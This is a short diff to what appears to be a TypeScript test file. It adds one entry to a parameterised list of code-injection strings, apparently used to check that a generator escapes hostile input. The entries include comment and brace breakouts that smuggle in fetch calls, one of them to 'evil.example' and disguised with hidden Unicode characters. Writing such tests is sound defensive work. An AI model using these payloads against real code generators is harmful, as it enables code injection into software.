@@ -116,6 +116,7 @@ export type TreeResult = unknown;
 
 	it.each([
 		"*/ fetch('https://evil.example') /*",
+		"*\u0007/ fetch('https://evil.example') /\u200b*",
 		"}; fetch(1); type X = {",
 		'"; fetch(1); //',
 		"a\u2028fetch(1)",
